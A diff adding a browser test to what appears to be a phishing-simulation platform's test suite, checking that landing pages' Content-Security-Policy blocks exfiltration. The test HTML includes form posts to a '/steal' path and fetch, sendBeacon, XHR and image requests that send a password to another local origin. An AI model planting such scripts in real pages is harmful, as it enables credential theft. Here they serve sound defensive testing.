@@ -48,6 +48,7 @@ from tracking_support import (
     recipient_by_email,
     recipient_events,
     rid_of,
+    wait_until,
 )
 
 PAGES = "/api/v1/pages"
@@ -762,3 +763,75 @@ def test_red_flags_at_most_20(api):
     expect_error(r, 422, "validation")
     t = make_template(api, red_flags=flags[:20])
     assert len(t["red_flags"]) == 20
+
+
+# --------------------------------------------------------------------------- CSP in a browser
+
+
+class _Exfil:
+    """A listener on another origin that records every path requested from it."""
+
+    def __init__(self):
+        import http.server
+        import threading
+        paths = self.paths = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self):
+                paths.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.httpd.server_port}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.httpd.shutdown()
+
+
+def test_landing_page_policy_in_a_browser(api, server):
+    from browser_support import run_scenario
+    exfil = _Exfil()
+    try:
+        blocked = make_page(api, html=(
+            f'<html><body><form action="{exfil.origin}/steal" method="get" target="_blank">'
+            '<input name="username"><input type="password" name="pw">'
+            f'<button id="go" formaction="{exfil.origin}/steal2" formtarget="w">Sign in</button>'
+            f'</form><script>window.__ran = true; fetch("{exfil.origin}/fetch-blocked");</script>'
+            '<img src="missing.png" onerror="window.__handler = true"></body></html>'))
+        allowed = make_page(api, allow_scripts=True, html=(
+            '<html><body><form id="f"><input type="password" name="pw" value="typed"></form>'
+            '<script>window.__violated = [];'
+            'document.addEventListener("securitypolicyviolation",'
+            ' (e) => window.__violated.push(e.effectiveDirective));'
+            f'fetch("{exfil.origin}/fetch").catch(() => {{}});'
+            f'navigator.sendBeacon("{exfil.origin}/beacon", "pw");'
+            f'try {{ const x = new XMLHttpRequest(); x.open("POST", "{exfil.origin}/xhr");'
+            ' x.send("pw"); } catch (e) {}'
+            f'new Image().src = "{exfil.origin}/image";'
+            'window.__attempted = true;</script></body></html>'))
+        x = outbox_campaign(api, server, 1, page=blocked)
+        y = outbox_campaign(api, server, 1, page=allowed)
+        _, rid_blocked = next(iter(x["rids"].items()))
+        _, rid_allowed = next(iter(y["rids"].items()))
+        result = run_scenario("landing_csp", {
+            "blocked_url": f"{server.phish_url}/?rid={rid_blocked}",
+            "allowed_url": f"{server.phish_url}/?rid={rid_allowed}",
+            "exfil_origin": exfil.origin, "desktop_ua": BROWSER_UA})
+        # The page's own script and event handler did not run; the button posted back.
+        assert result["blocked"]["ran"] == {"script": False, "handler": False}, result
+        assert result["blocked"]["after"] == f"{server.phish_url}/?rid={rid_blocked}", result
+        # Allowed scripts ran, but the form could not leave, and nothing reached the other
+        # site but the image URL (the remaining risk docs/tracking.md states).
+        assert result["allowed"]["after"] == result["allowed"]["before"], result
+        assert "connect-src" in result["allowed"]["violated"], result
+        wait_until(lambda: "/image" in exfil.paths, 10, "the image request (positive control)")
+        assert exfil.paths == ["/image"], exfil.paths
+    finally:
+        exfil.close()
